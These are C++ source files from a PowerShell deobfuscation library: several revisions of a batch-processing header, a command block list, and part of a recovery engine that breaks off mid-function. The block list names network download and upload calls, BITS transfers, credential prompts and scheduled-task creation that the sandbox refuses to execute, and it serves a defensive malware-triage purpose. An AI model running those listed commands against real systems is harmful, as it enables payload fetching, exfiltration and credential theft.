  telemetry::PipelineProfile profile;

  [[nodiscard]] int failed() const;
  [[nodiscard]] int changed() const;
  /// Items with a non-None failure classification: exactly the failed()
  /// items plus the degraded-but-served ones. A batch with failed() == 0
  /// and degraded() == 0 therefore reports failures() == 0.
  [[nodiscard]] int failures() const;
  /// Items served from a rung > 0.
  [[nodiscard]] int degraded() const;
};

/// Deobfuscates every script in `scripts`, preserving order, and records a
/// per-item ok/failed verdict plus wall times into `report`. Exceptions
/// inside a worker surface as the input returned unchanged (deobfuscation
/// is total by contract) with `ok == false` for that item.
std::vector<std::string> deobfuscate_batch(const InvokeDeobfuscator& deobf,
                                           const std::vector<std::string>& scripts,
                                           BatchReport& report,
                                           const BatchOptions& options);

/// Back-compat overloads (thread count only, no governor).
std::vector<std::string> deobfuscate_batch(const InvokeDeobfuscator& deobf,
                                           const std::vector<std::string>& scripts,
                                           BatchReport& report,
                                           unsigned threads = 0);

/// Report-free convenience overload; failures are silent (unchanged output).
std::vector<std::string> deobfuscate_batch(const InvokeDeobfuscator& deobf,
                                           const std::vector<std::string>& scripts,
                                           unsigned threads = 0);

}  // namespace ideobf
