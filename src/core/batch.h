#pragma once

/// \file batch.h
/// Thread-parallel batch deobfuscation. InvokeDeobfuscator is const-callable
/// from any number of threads (its parse cache is thread-safe and shared),
/// so a corpus (triage queues routinely see thousands of samples) shards
/// cleanly across worker threads.

#include <string>
#include <vector>

#include "core/deobfuscator.h"

namespace ideobf {

/// Per-item outcome of a batch run.
struct BatchItem {
  bool ok = false;       ///< false when the worker caught an exception
  bool changed = false;  ///< output differs from the input script
  double seconds = 0.0;  ///< wall time spent on this item
  std::string error;     ///< what() of the caught exception when !ok
};

struct BatchReport {
  std::vector<BatchItem> items;  ///< one per input script, same order
  double wall_seconds = 0.0;     ///< end-to-end wall time of the batch

  [[nodiscard]] int failed() const;
  [[nodiscard]] int changed() const;
};

/// Deobfuscates every script in `scripts`, preserving order, and records a
/// per-item ok/failed verdict plus wall times into `report`. `threads` = 0
/// picks the hardware concurrency. Exceptions inside a worker surface as
/// the input returned unchanged (deobfuscation is total by contract) with
/// `ok == false` for that item.
std::vector<std::string> deobfuscate_batch(const InvokeDeobfuscator& deobf,
                                           const std::vector<std::string>& scripts,
                                           BatchReport& report,
                                           unsigned threads = 0);

/// Report-free convenience overload; failures are silent (unchanged output).
std::vector<std::string> deobfuscate_batch(const InvokeDeobfuscator& deobf,
                                           const std::vector<std::string>& scripts,
                                           unsigned threads = 0);

}  // namespace ideobf
