#pragma once

/// \file batch.h
/// Thread-parallel batch deobfuscation. InvokeDeobfuscator is const-callable
/// from any number of threads (its parse cache is thread-safe and shared),
/// so a corpus (triage queues routinely see thousands of samples) shards
/// cleanly across worker threads.
///
/// Execution model: items run on the process-lifetime work-stealing
/// ps::WorkerPool (no per-call thread spawn; per-thread arena chunk
/// freelists stay warm across batches). Piece memoization is the engine's
/// global content-addressed RecoveryMemo (Options::Recovery::share_memo),
/// shared across every slot — a decoder fragment repeated across a corpus
/// is sandbox-executed once per batch, not once per slot.
///
/// Robustness model: each item runs under its own governor envelope (see
/// Options::Limits) with a private cancellation token, and a watchdog thread
/// cancels any item still running past watchdog_factor x its deadline — so
/// one hostile sample can stall neither its worker nor the batch. Worker
/// bodies are exception-sealed (including non-std throws), so an unexpected
/// throw degrades one item instead of terminating the process.
///
/// Batches are configured by the same unified `ideobf::Options` as
/// everything else; `deobfuscate_batch_items` is the generalized core that
/// gives every item its own envelope (how Engine::handle_batch and the
/// server honor per-request deadlines).

#include <string>
#include <string_view>
#include <vector>

#include "core/deobfuscator.h"

namespace ideobf {

/// Per-item outcome of a batch run.
struct BatchItem {
  bool ok = false;       ///< false when the worker caught an exception
  bool changed = false;  ///< output differs from the input script
  double seconds = 0.0;  ///< wall time spent on this item
  std::string error;     ///< what() of the caught exception when !ok
  /// Failure classification of whatever impaired this item: non-None
  /// exactly when the item failed (!ok) or was served degraded (rung > 0).
  /// A full-strength success is always None — benign per-piece recovery
  /// hiccups inside an otherwise clean run do not count as item failures —
  /// so failures() is consistent with failed() + degraded().
  ps::FailureKind failure = ps::FailureKind::None;
  /// Worst per-piece recovery failure seen while producing the served
  /// output (informative; a piece that could not be recovered is left
  /// as-is by design, so this never affects ok or failures()).
  ps::FailureKind worst_piece_failure = ps::FailureKind::None;
  /// Degradation-ladder rung that served the output (0 = full pipeline,
  /// 3 = passthrough).
  int degradation_rung = 0;
};

struct BatchReport {
  std::vector<BatchItem> items;  ///< one per input script, same order
  double wall_seconds = 0.0;     ///< end-to-end wall time of the batch
  /// Phase breakdown summed over every item (self times partition the
  /// batch's total CPU-side pipeline time). All-zero unless telemetry was
  /// enabled for the run.
  telemetry::PipelineProfile profile;

  [[nodiscard]] int failed() const;
  [[nodiscard]] int changed() const;
  /// Items with a non-None failure classification: exactly the failed()
  /// items plus the degraded-but-served ones. A batch with failed() == 0
  /// and degraded() == 0 therefore reports failures() == 0.
  [[nodiscard]] int failures() const;
  /// Items served from a rung > 0.
  [[nodiscard]] int degraded() const;
};

/// One item of a generalized batch: its source text plus its own governor
/// envelope and (optionally) its own pipeline options.
struct BatchItemSpec {
  /// The script text. Not owned; must outlive the batch call.
  std::string_view source;
  /// This item's envelope. Inactive runs the item ungoverned under the
  /// deobfuscator's configured limits (the pre-governor behavior).
  Options::Limits limits{};
  /// Optional full pipeline-options override for this item (how the server
  /// honors per-request options). The worker builds a temporary
  /// InvokeDeobfuscator sharing `deobf`'s parse cache. Not owned; null uses
  /// `deobf` as configured.
  const Options* options_override = nullptr;
  /// Front-end language for this item ("" = default, "auto" = sniffed, or
  /// a registered name). Not owned; must outlive the batch call.
  std::string_view language;
};

/// The generalized batch core: runs every item on the process-lifetime
/// worker pool under its own envelope, preserving order. `batch_options`
/// supplies the batch-wide knobs (threads) and the
/// batch-wide cancellation token (limits.cancel — cancelling it drains the
/// whole queue as classified passthrough). When `item_reports` is non-null
/// it receives one full DeobfuscationReport per item (same order).
std::vector<std::string> deobfuscate_batch_items(
    const InvokeDeobfuscator& deobf, const std::vector<BatchItemSpec>& items,
    BatchReport& report, const Options& batch_options,
    std::vector<DeobfuscationReport>* item_reports = nullptr);

/// Deobfuscates every script in `scripts`, preserving order, and records a
/// per-item ok/failed verdict plus wall times into `report`. Exceptions
/// inside a worker surface as the input returned unchanged (deobfuscation
/// is total by contract) with `ok == false` for that item. Every item runs
/// under options.limits.
std::vector<std::string> deobfuscate_batch(const InvokeDeobfuscator& deobf,
                                           const std::vector<std::string>& scripts,
                                           BatchReport& report,
                                           const Options& options);

/// Back-compat overloads (thread count only, no governor).
std::vector<std::string> deobfuscate_batch(const InvokeDeobfuscator& deobf,
                                           const std::vector<std::string>& scripts,
                                           BatchReport& report,
                                           unsigned threads = 0);

/// Report-free convenience overload; failures are silent (unchanged output).
std::vector<std::string> deobfuscate_batch(const InvokeDeobfuscator& deobf,
                                           const std::vector<std::string>& scripts,
                                           unsigned threads = 0);

}  // namespace ideobf
