#pragma once

/// \file batch.h
/// Thread-parallel batch deobfuscation. InvokeDeobfuscator is stateless and
/// const-callable, so a corpus (triage queues routinely see thousands of
/// samples) shards cleanly across worker threads.

#include <string>
#include <vector>

#include "core/deobfuscator.h"

namespace ideobf {

/// Deobfuscates every script in `scripts`, preserving order. `threads` = 0
/// picks the hardware concurrency. Exceptions inside a worker surface as
/// the input returned unchanged (deobfuscation is total by contract).
std::vector<std::string> deobfuscate_batch(const InvokeDeobfuscator& deobf,
                                           const std::vector<std::string>& scripts,
                                           unsigned threads = 0);

}  // namespace ideobf
