#include "core/blocklist.h"

#include <algorithm>
#include <array>

namespace ideobf {

namespace {
// Commands with side effects that cannot contribute to a string recovery.
constexpr std::array<std::string_view, 38> kBlocked = {
    "restart-computer", "stop-computer",   "start-sleep",
    "start-process",    "stop-process",    "invoke-webrequest",
    "invoke-restmethod", "start-service",  "stop-service",
    "restart-service",  "new-service",     "invoke-item",
    "remove-item",      "set-content",     "add-content",
    "out-file",         "copy-item",       "move-item",
    "new-item",         "mkdir",           "new-itemproperty",
    "set-itemproperty", "remove-itemproperty",
    "start-job",        "invoke-wmimethod", "set-executionpolicy",
    "test-connection",  "send-mailmessage", "read-host",
    "get-credential",   "start-bitstransfer",
    "register-scheduledtask", "schtasks",  "bitsadmin",
    "webclient.downloadstring", "webclient.downloadfile",
    "webclient.downloaddata",   "webclient.uploadstring",
};
}  // namespace

bool is_blocklisted(std::string_view command_lower) {
  return std::find(kBlocked.begin(), kBlocked.end(), command_lower) !=
         kBlocked.end();
}

std::function<bool(const std::string&)> make_recovery_filter(
    std::vector<std::string> extra) {
  return [extra = std::move(extra)](const std::string& name) {
    if (is_blocklisted(name)) return false;
    return std::find(extra.begin(), extra.end(), name) == extra.end();
  };
}

}  // namespace ideobf
