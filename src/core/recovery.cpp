#include "core/recovery.h"

#include <map>
#include <memory>

#include <array>
#include <atomic>

#include "core/blocklist.h"
#include "core/failure.h"
#include "core/fault.h"
#include "pslang/alias_table.h"
#include "psast/parse_cache.h"
#include "psast/parser.h"
#include "psinterp/bytecode.h"
#include "psinterp/interpreter.h"
#include "telemetry/telemetry.h"

namespace ideobf {

namespace {

telemetry::Counter& memo_lookup_counter() {
  static auto& c =
      telemetry::registry().counter("ideobf_recovery_memo_lookup_total");
  return c;
}
telemetry::Counter& memo_hit_counter() {
  static auto& c =
      telemetry::registry().counter("ideobf_recovery_memo_hit_total");
  return c;
}
telemetry::Counter& memo_miss_counter() {
  static auto& c =
      telemetry::registry().counter("ideobf_recovery_memo_miss_total");
  return c;
}

// Per-stage counters of the piece-evaluation ladder. Every execute_piece
// entry lands in exactly one of: a memo hit, a fold (pure chunk on the
// shared fold interpreter), a bytecode exec (chunk on a seeded
// interpreter), or a tree-walk fallback — the identity the bench smoke
// gate asserts.
telemetry::Counter& piece_exec_counter() {
  static auto& c =
      telemetry::registry().counter("ideobf_recovery_piece_exec_total");
  return c;
}
telemetry::Counter& piece_memo_hit_counter() {
  static auto& c =
      telemetry::registry().counter("ideobf_recovery_piece_memo_hit_total");
  return c;
}
telemetry::Counter& fold_counter() {
  static auto& c = telemetry::registry().counter("ideobf_recovery_fold_total");
  return c;
}
telemetry::Counter& bytecode_exec_counter() {
  static auto& c =
      telemetry::registry().counter("ideobf_recovery_bytecode_exec_total");
  return c;
}
telemetry::Counter& treewalk_fallback_counter() {
  static auto& c = telemetry::registry().counter(
      "ideobf_recovery_treewalk_fallback_total");
  return c;
}
telemetry::Counter& compile_counter() {
  static auto& c =
      telemetry::registry().counter("ideobf_recovery_compile_total");
  return c;
}
telemetry::Counter& chunk_hit_counter() {
  static auto& c =
      telemetry::registry().counter("ideobf_recovery_chunk_hit_total");
  return c;
}

telemetry::Histogram& fold_histogram() {
  static auto& h = telemetry::registry().histogram("ideobf_piece_eval_seconds",
                                                   "stage=\"fold\"");
  return h;
}
telemetry::Histogram& vm_histogram() {
  static auto& h = telemetry::registry().histogram("ideobf_piece_eval_seconds",
                                                   "stage=\"vm\"");
  return h;
}
telemetry::Histogram& fallback_histogram() {
  static auto& h = telemetry::registry().histogram("ideobf_piece_eval_seconds",
                                                   "stage=\"fallback\"");
  return h;
}

/// Per-NodeKind recovery attempt counter, interned lazily per kind (the
/// registry is idempotent, so a first-use race costs one duplicate intern).
telemetry::Counter& piece_kind_counter(ps::NodeKind kind) {
  static std::array<std::atomic<telemetry::Counter*>, 64> slots{};
  auto& slot = slots[static_cast<std::size_t>(kind) % slots.size()];
  telemetry::Counter* c = slot.load(std::memory_order_acquire);
  if (c == nullptr) {
    std::string labels = "kind=\"";
    labels += ps::to_string(kind);
    labels += '"';
    c = &telemetry::registry().counter("ideobf_recovery_piece_total", labels);
    slot.store(c, std::memory_order_release);
  }
  return *c;
}

}  // namespace

using ps::Ast;
using ps::NodeKind;
using ps::Value;

std::string value_to_literal(const Value& value) {
  if (value.is_string() || value.is_char()) {
    const std::string s = value.to_display_string();
    std::string out;
    out.reserve(s.size() + 2);
    out += '\'';
    for (char c : s) {
      // Control characters have no single-quoted literal representation.
      if ((c >= 0 && c < 0x20 && c != '\n' && c != '\t' && c != '\r') ||
          c == 0x7f) {
        return "";
      }
      if (c == '\'') out += "''";
      else out.push_back(c);
    }
    out += '\'';
    return out;
  }
  if (value.is_int()) return std::to_string(value.get_int());
  if (value.is_double()) return ps::format_double(value.get_double());
  return "";  // Boolean / Object / Array / null: keep the original piece
}

std::optional<std::string> RecoveryMemo::lookup(std::size_t context,
                                                std::string_view piece) const {
  lookups_.fetch_add(1, std::memory_order_relaxed);
  // Counters record into the *calling* thread's metric shard, so batch
  // workers (bound to their pool slot's shard) keep per-slot hit rates
  // observable even though the memo itself is global.
  memo_lookup_counter().add();
  Key key{context, std::string(piece)};
  const std::size_t h = KeyHash{}(key);
  Shard& shard = shard_for(h);
  {
    const std::lock_guard<std::mutex> lock(shard.mu);
    const auto it = shard.map.find(key);
    if (it != shard.map.end()) {
      std::string literal = it->second;
      hits_.fetch_add(1, std::memory_order_relaxed);
      memo_hit_counter().add();
      return literal;
    }
  }
  memo_miss_counter().add();
  return std::nullopt;
}

void RecoveryMemo::store(std::size_t context, std::string_view piece,
                         std::string literal) {
  Key key{context, std::string(piece)};
  const std::size_t h = KeyHash{}(key);
  Shard& shard = shard_for(h);
  const std::lock_guard<std::mutex> lock(shard.mu);
  if (shard.map.size() >= kMaxEntriesPerShard) return;
  shard.map.emplace(std::move(key), std::move(literal));
}

std::size_t RecoveryMemo::size() const {
  std::size_t total = 0;
  for (const Shard& shard : shards_) {
    const std::lock_guard<std::mutex> lock(shard.mu);
    total += shard.map.size();
  }
  return total;
}

namespace {

/// Automatic variables that must never be substituted textually even though
/// the interpreter knows their value.
bool is_untouchable_variable(const std::string& bare_lower) {
  static const char* kNames[] = {"_",     "args",  "input", "matches", "this",
                                 "true",  "false", "null",  "error",   "lastexitcode",
                                 "psitem", "myinvocation", "psboundparameters",
                                 "executioncontext", "psversiontable", "host",
                                 "profile", "ofs"};
  for (const char* n : kNames) {
    if (bare_lower == n) return true;
  }
  return false;
}

/// True when the reconstructed text is already a plain literal, so
/// executing it cannot simplify anything.
bool is_trivial_literal(std::string_view text) {
  std::size_t b = 0, e = text.size();
  while (b < e && (text[b] == ' ' || text[b] == '\t' || text[b] == '(' )) ++b;
  while (e > b && (text[e - 1] == ' ' || text[e - 1] == '\t' || text[e - 1] == ')')) --e;
  if (b >= e) return true;
  std::string_view body = text.substr(b, e - b);
  if (body.front() == '\'' && body.back() == '\'' &&
      body.find('\'', 1) == body.size() - 1) {
    return true;
  }
  bool all_digits = true;
  for (std::size_t i = body.front() == '-' ? 1 : 0; i < body.size(); ++i) {
    if (!std::isdigit(static_cast<unsigned char>(body[i])) && body[i] != '.') {
      all_digits = false;
      break;
    }
  }
  return all_digits;
}

class Reconstructor {
 public:
  Reconstructor(std::string_view src, const RecoveryOptions& options,
                RecoveryStats& stats, TraceSink* trace,
                ps::ParseCache* cache = nullptr,
                const ps::ParsedScript* parsed = nullptr)
      : src_(src), options_(options), stats_(stats), trace_(trace),
        cache_(cache),
        arena_(parsed != nullptr ? parsed->arena().get() : nullptr) {
    scope_path_.push_back(0);
  }

  std::string run(const Ast& root) { return reconstruct(root); }

 private:
  struct VarInfo {
    Value value;
    std::vector<int> scope;
  };

  std::string_view src_;
  const RecoveryOptions& options_;
  RecoveryStats& stats_;
  TraceSink* trace_;
  ps::ParseCache* cache_;  ///< shared parse cache for piece interpreters
  ps::Arena* arena_;  ///< arena of the parse being walked (chunk cache home)
  std::map<std::string, VarInfo> table_;  ///< S_v and S_c of Algorithm 1
  std::vector<std::string> function_defs_;  ///< trace_functions extension
  std::vector<int> scope_path_;
  int scope_counter_ = 0;
  int conditional_depth_ = 0;
  /// Shared interpreter for the fold stage: pure chunks cannot observe
  /// interpreter state, so one table-free strict interpreter (built lazily,
  /// steps reset per piece) serves every fold in the pass — no per-piece
  /// construction, no table seeding, no function-definition replay.
  std::unique_ptr<ps::Interpreter> fold_interp_;
  /// Cached limits-only memo context for pure pieces (lazy; 0 = unset).
  mutable std::size_t pure_ctx_ = 0;

  /// Context salt for pure-chunk memo entries: their results depend only on
  /// the piece text and the execution limits (which gate how a piece may
  /// *fail*), never on the traced-variable table — so all scripts, slots,
  /// and sessions share one entry per piece under this fixed context.
  static constexpr std::size_t kPureContext = 0x517cc1b727220a95ull;

  /// Context salt for environment-variable probes: their evaluation uses a
  /// fresh table-free interpreter, so their memo entries must not collide
  /// with piece executions under an arbitrary table fingerprint.
  static constexpr std::size_t kEnvProbeContext = 0x9e3779b97f4a7c15ull;

  /// Fingerprint of everything that can influence a piece execution: the
  /// visible symbol-table entries (name, value kind, display form) and the
  /// loaded function definitions. Equal text + equal fingerprint implies
  /// the interpreter would produce the same result, so the memoized literal
  /// substitutes for re-execution.
  std::size_t context_fingerprint() const {
    // The language salt is part of every context: identical piece bytes
    // under another front-end must never alias on a shared memo.
    std::size_t h = 14695981039346656037ull ^ options_.language_salt;
    const auto mix = [&h](std::string_view s) {
      for (unsigned char c : s) {
        h ^= c;
        h *= 1099511628211ull;
      }
      h ^= 0xffu;  // field separator
      h *= 1099511628211ull;
    };
    for (const auto& [name, info] : table_) {
      if (!scope_visible(info.scope)) continue;
      mix(name);
      const char tag = info.value.is_string()   ? 's'
                       : info.value.is_char()   ? 'c'
                       : info.value.is_int()    ? 'i'
                       : info.value.is_double() ? 'd'
                                                : 'o';
      mix(std::string_view(&tag, 1));
      mix(info.value.to_display_string());
    }
    for (const std::string& def : function_defs_) mix(def);
    // The execution limits and blocklist gate what a piece may do before it
    // fails, and a failure is memoized as "known unrecoverable" — so they
    // are part of the context. This keeps one memo sound when shared across
    // degradation rungs (which tighten the limits) or across batch slots.
    mix(std::to_string(options_.max_steps_per_piece));
    mix(std::to_string(options_.max_piece_size));
    for (const std::string& blocked : options_.extra_blocklist) mix(blocked);
    mix(options_.trace_functions ? "tf1" : "tf0");
    return h;
  }

  bool scope_visible(const std::vector<int>& recorded) const {
    if (recorded.size() > scope_path_.size()) return false;
    for (std::size_t i = 0; i < recorded.size(); ++i) {
      if (recorded[i] != scope_path_[i]) return false;
    }
    return true;
  }

  /// Records one failed piece/assignment execution in the pass stats.
  void record_piece_failure(ps::FailureKind kind) {
    stats_.pieces_failed++;
    stats_.worst_failure = ps::worse_failure(stats_.worst_failure, kind);
  }

  /// A fresh strict interpreter preloaded with the traced variable values.
  std::unique_ptr<ps::Interpreter> make_interpreter() const {
    ps::InterpreterOptions opts;
    opts.max_steps = options_.max_steps_per_piece;
    opts.strict_variables = true;
    opts.refuse_blocklisted = true;
    opts.command_filter = make_recovery_filter(options_.extra_blocklist);
    opts.parse_cache = cache_;
    opts.budget = options_.budget;
    auto interp = std::make_unique<ps::Interpreter>(opts);
    for (const auto& [name, info] : table_) {
      if (scope_visible(info.scope)) interp->set_variable(name, info.value);
    }
    // Function-tracing extension: register earlier function definitions so
    // pieces calling a user decoder can execute (blocklist still applies).
    for (const std::string& def : function_defs_) {
      try {
        interp->evaluate_script(def);
      } catch (const ps::BudgetError&) {
        throw;  // the item's envelope, not this definition's problem
      } catch (const std::exception&) {
        // A definition that does not evaluate is simply unavailable.
      }
    }
    return interp;
  }

  /// The fold-stage interpreter: same limits/blocklist/budget as
  /// make_interpreter() but with no table seeding and no function replay —
  /// pure chunks can't read either. Reused across every fold of the pass.
  ps::Interpreter& fold_interpreter() {
    if (fold_interp_ == nullptr) {
      ps::InterpreterOptions opts;
      opts.max_steps = options_.max_steps_per_piece;
      opts.strict_variables = true;
      opts.refuse_blocklisted = true;
      opts.command_filter = make_recovery_filter(options_.extra_blocklist);
      opts.parse_cache = cache_;
      opts.budget = options_.budget;
      fold_interp_ = std::make_unique<ps::Interpreter>(opts);
    }
    return *fold_interp_;
  }

  /// Memo context for pure chunks: the execution limits only (they decide
  /// how a piece may fail, and failures are memoized), under a fixed salt
  /// so entries never collide with table-fingerprinted contexts. Cached —
  /// unlike context_fingerprint() this never rescans the table.
  std::size_t pure_context_fingerprint() const {
    if (pure_ctx_ != 0) return pure_ctx_;
    pure_ctx_ = pure_memo_context(options_);
    return pure_ctx_;
  }

  /// The single statement of a parsed piece, or null when the piece is not
  /// exactly one statement (then evaluate_script semantics — multiple
  /// statements, param blocks — are beyond a single compiled chunk).
  static const Ast* single_statement(const ps::ScriptBlockAst& root) {
    if (root.param_block != nullptr) return nullptr;
    const Ast* found = nullptr;
    for (const auto& block : root.named_blocks) {
      for (const auto& st : block->statements) {
        if (found != nullptr) return nullptr;
        found = st.get();
      }
    }
    return found;
  }

  /// Finds (or compiles and caches) the bytecode chunk for a piece. The
  /// chunk is annotated onto the arena that owns the node it was compiled
  /// from — the walked script's arena for verbatim pieces, the parse
  /// cache's arena for rewritten text — so it is compiled once per node and
  /// torn down with the tree. Returns null when the piece is uncompilable
  /// (the negative result is cached too, as an empty chunk).
  std::shared_ptr<const ps::bytecode::Chunk> find_or_compile_chunk(
      const std::string& text, const Ast* node) {
    const Ast* key = nullptr;
    ps::Arena* arena = nullptr;
    ps::ParsedScript pinned;  // keeps a cache-owned arena alive while used
    if (node != nullptr && matches_source(*node, text)) {
      key = node;
      arena = arena_;
    } else if (cache_ != nullptr) {
      ps::ParseCache::Result parsed = cache_->get(text);
      if (parsed.ast == nullptr) return nullptr;
      key = single_statement(*parsed.ast);
      if (key == nullptr) return nullptr;
      arena = parsed.ast.arena().get();
      pinned = std::move(parsed.ast);
    } else {
      return nullptr;
    }
    if (arena != nullptr) {
      if (std::shared_ptr<void> found = arena->find_annotation(key)) {
        chunk_hit_counter().add();
        auto chunk = std::static_pointer_cast<ps::bytecode::Chunk>(found);
        return chunk->valid() ? chunk : nullptr;
      }
    }
    compile_counter().add();
    std::shared_ptr<ps::bytecode::Chunk> chunk =
        ps::bytecode::compile_piece(*key);
    if (arena == nullptr) return chunk;
    // An empty (invalid) chunk caches "uncompilable" so hot fallback pieces
    // are classified once. store_annotation keeps the first writer's chunk
    // on a race; use whatever it kept.
    auto kept = std::static_pointer_cast<ps::bytecode::Chunk>(
        arena->store_annotation(
            key, chunk != nullptr
                     ? std::shared_ptr<void>(std::move(chunk))
                     : std::make_shared<ps::bytecode::Chunk>()));
    return kept->valid() ? kept : nullptr;
  }

  /// Splices the reconstructed children into the node's original text.
  std::string splice(const Ast& node,
                     const std::vector<std::pair<const Ast*, std::string>>& kids) {
    std::string out;
    std::size_t pos = node.start();
    for (const auto& [child, text] : kids) {
      if (child->start() < pos) continue;  // defensive: skip overlaps
      out += src_.substr(pos, child->start() - pos);
      out += text;
      pos = child->end();
    }
    out += src_.substr(pos, node.end() - pos);
    return out;
  }

  bool is_loop_or_conditional(NodeKind kind) const {
    switch (kind) {
      case NodeKind::IfStatement:
      case NodeKind::SwitchStatement:
      case NodeKind::WhileStatement:
      case NodeKind::DoWhileStatement:
      case NodeKind::ForStatement:
      case NodeKind::ForEachStatement:
        return true;
      default:
        return false;
    }
  }

  std::string reconstruct(const Ast& node) {
    // Scope bookkeeping (the six scope kinds of Algorithm 1).
    const bool scoped = ps::is_scope_kind(node.kind());
    const bool conditional = is_loop_or_conditional(node.kind());
    if (scoped) scope_path_.push_back(++scope_counter_);
    if (conditional) ++conditional_depth_;

    std::vector<std::pair<const Ast*, std::string>> kids;
    for (const Ast* child : node.children()) {
      kids.emplace_back(child, reconstruct(*child));
    }

    if (conditional) --conditional_depth_;
    if (scoped) scope_path_.pop_back();

    std::string text = splice(node, kids);

    switch (node.kind()) {
      case NodeKind::VariableExpression:
        return handle_variable(static_cast<const ps::VariableExpressionAst&>(node),
                               std::move(text));
      case NodeKind::AssignmentStatement:
        return handle_assignment(
            static_cast<const ps::AssignmentStatementAst&>(node), std::move(text));
      case NodeKind::FunctionDefinition:
        if (options_.trace_functions && conditional_depth_ == 0) {
          function_defs_.push_back(text);
        }
        return text;
      case NodeKind::ExpandableStringExpression:
        return handle_expandable(std::move(text), node);
      default:
        break;
    }

    if (ps::is_recoverable_kind(node.kind())) {
      return try_recover(std::move(text), node);
    }
    return text;
  }

  /// True when the spliced text is the node's verbatim source text — no
  /// child was substituted, so the already-parsed subtree still describes
  /// it and can be evaluated without re-parsing.
  bool matches_source(const Ast& node, std::string_view text) const {
    return text == src_.substr(node.start(), node.end() - node.start());
  }

  std::string handle_variable(const ps::VariableExpressionAst& var,
                              std::string text) {
    const std::string bare = var.bare_name();
    const std::string scope = var.scope_qualifier();

    // Algorithm 1 lines 8-12: any variable touched inside a loop or
    // conditional statement becomes untraceable.
    if (conditional_depth_ > 0) {
      table_.erase(bare);
      return text;
    }
    if (is_untouchable_variable(bare)) return text;

    // Never substitute binding positions.
    const Ast* parent = var.parent();
    if (parent != nullptr) {
      if (parent->kind() == NodeKind::AssignmentStatement &&
          static_cast<const ps::AssignmentStatementAst*>(parent)->left.get() ==
              &var) {
        return text;
      }
      if (parent->kind() == NodeKind::ForEachStatement &&
          static_cast<const ps::ForEachStatementAst*>(parent)->variable.get() ==
              &var) {
        return text;
      }
      if (parent->kind() == NodeKind::UnaryExpression) {
        const auto& un = static_cast<const ps::UnaryExpressionAst&>(*parent);
        if (un.op.rfind("++", 0) == 0 || un.op.rfind("--", 0) == 0) {
          table_.erase(bare);
          return text;
        }
      }
    }

    // Traced user variable?
    if (scope.empty() || scope == "script" || scope == "global") {
      auto it = table_.find(bare);
      if (it != table_.end() && scope_visible(it->second.scope)) {
        const std::string literal = value_to_literal(it->second.value);
        if (!literal.empty()) {
          stats_.variables_substituted++;
          if (trace_ != nullptr) {
            trace_->emit({TraceEvent::Kind::VariableSubstituted, var.start(),
                          text, literal, trace_->pass()});
          }
          return literal;
        }
        return text;
      }
    }

    // Environment / automatic variables resolve through Get-Variable
    // semantics (paper section III-B3). The probe interpreter is fresh and
    // table-free, so the result depends on the variable text alone and is
    // memoized under a fixed context.
    if (scope == "env" || scope.empty()) {
      const std::string probe_text(
          src_.substr(var.start(), var.end() - var.start()));
      telemetry::PhaseSpan probe_span(telemetry::Phase::PieceExecution,
                                      "env-probe");
      std::string literal;
      const std::optional<std::string> hit =
          options_.memo != nullptr
              ? options_.memo->lookup(kEnvProbeContext ^ options_.language_salt,
                                      probe_text)
              : std::nullopt;
      if (hit.has_value()) {
        stats_.memo_hits++;
        literal = *hit;
      } else {
        if (options_.memo != nullptr) stats_.memo_misses++;
        try {
          ps::InterpreterOptions opts;
          opts.strict_variables = true;
          opts.parse_cache = cache_;
          opts.budget = options_.budget;
          ps::Interpreter probe(opts);
          // Parse-once: the variable node is a verbatim subtree of the
          // already-parsed script, so no piece parse is needed.
          const Value v = cache_ != nullptr
                              ? probe.evaluate(var, src_)
                              : probe.evaluate_script(probe_text);
          if (v.is_string() || v.is_char()) literal = value_to_literal(v);
        } catch (const ps::BudgetError&) {
          throw;
        } catch (const std::exception&) {
          // unknown: keep as-is
        }
        if (options_.memo != nullptr) {
          options_.memo->store(kEnvProbeContext ^ options_.language_salt,
                               probe_text, literal);
        }
      }
      if (!literal.empty()) {
        stats_.variables_substituted++;
        if (trace_ != nullptr) {
          trace_->emit({TraceEvent::Kind::VariableSubstituted, var.start(),
                        text, literal, trace_->pass()});
        }
        return literal;
      }
    }
    return text;
  }

  std::string handle_assignment(const ps::AssignmentStatementAst& st,
                                std::string text) {
    if (st.left->kind() != NodeKind::VariableExpression) return text;
    const auto& var = static_cast<const ps::VariableExpressionAst&>(*st.left);
    const std::string bare = var.bare_name();
    if (conditional_depth_ > 0 || is_untouchable_variable(bare)) {
      table_.erase(bare);
      return text;
    }
    telemetry::PhaseSpan trace_span(telemetry::Phase::VariableTrace);
    try {
      auto interp = make_interpreter();
      if (cache_ != nullptr && matches_source(st, text)) {
        interp->evaluate(st, src_);  // parse-once: reuse the subtree
      } else {
        interp->evaluate_script(text);
      }
      if (auto value = interp->get_variable(bare)) {
        table_[bare] = VarInfo{*value, scope_path_};
        stats_.variables_traced++;
        if (trace_ != nullptr) {
          trace_->emit({TraceEvent::Kind::VariableTraced, st.start(), "$" + bare,
                        value_to_literal(*value), trace_->pass()});
        }
      } else {
        table_.erase(bare);
      }
    } catch (const ps::BudgetError&) {
      throw;  // item-level envelope: aborts the pass, not just this record
    } catch (const FaultError&) {
      throw;  // injected faults must reach the governor
    } catch (const std::exception&) {
      // Unknown variables / blocked commands / limits: drop the record
      // (Algorithm 1 lines 15-18) but remember what kind of failure it was
      // for the item classification.
      record_piece_failure(classify_current_exception().first);
      table_.erase(bare);
    }
    return text;
  }

  /// Executes a piece through the three-stage evaluation ladder:
  ///
  ///   1. resolve (or compile once, cached on the owning arena) the piece's
  ///      bytecode chunk;
  ///   2. consult the memo — pure chunks under the cached limits-only
  ///      context (so one entry serves every script, slot, and session),
  ///      everything else under the traced-table fingerprint;
  ///   3. on a miss, evaluate: *fold* pure chunks on the shared table-free
  ///      interpreter, run impure chunks on a freshly seeded interpreter
  ///      (*vm*), and tree-walk anything the compiler rejected
  ///      (*fallback*) — semantics preserved by construction.
  ///
  /// The returned literal is "" when the piece stays as-is (failed
  /// execution, no literal form, or no progress).
  std::string execute_piece(const std::string& text, const Ast* node) {
    telemetry::PhaseSpan piece_span(
        telemetry::Phase::PieceExecution,
        node != nullptr ? ps::to_string(node->kind()) : std::string_view{});
    if (node != nullptr && telemetry::enabled()) {
      piece_kind_counter(node->kind()).add();
    }
    piece_exec_counter().add();
    if (options_.fault != nullptr) {
      options_.fault->inject(FaultSite::PieceExecution);
    }
    const std::shared_ptr<const ps::bytecode::Chunk> chunk =
        find_or_compile_chunk(text, node);
    const bool pure = chunk != nullptr && chunk->pure;
    std::size_t ctx = 0;
    if (options_.memo != nullptr) {
      if (options_.fault != nullptr) {
